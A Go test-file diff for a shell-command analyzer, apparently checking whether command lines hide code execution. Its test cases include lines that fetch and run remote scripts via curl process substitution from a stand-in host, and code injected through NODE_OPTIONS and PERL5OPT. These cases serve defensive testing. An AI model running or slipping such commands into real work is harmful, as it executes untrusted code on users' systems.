@@ -114,7 +114,9 @@ func TestSettings(t *testing.T) {
 		{"BASH_ENV=<(curl -s https://x.example.net/e) bash -c true", "", nil, nil, true},
 		{"just --justfile <(curl -s https://x.example.net/justfile) default", "just", []string{"<(curl -s https://x.example.net/justfile)"}, nil, true},
 		{`NODE_OPTIONS="--import=data:text/javascript,import('child_process').then(c=>c.execSync('id'))" npm run build`, "", nil, nil, true},
-		{"PERL5OPT='-Mstrict;system(\"id\")' perl x.pl", "", nil, nil, true},
+		// -MMod;CODE is read as perl code: system("id") is the command id.
+		{"PERL5OPT='-Mstrict;system(\"id\")' perl x.pl", "id", nil, nil, false},
+		{"PERL5OPT='-Mstrict;system($ARGV[0])' perl x.pl", "", nil, nil, true},
 		{"EDITOR=vim git commit", "git", nil, nil, false},
 	} {
 		an, err := Analyze(tc.line, Options{})
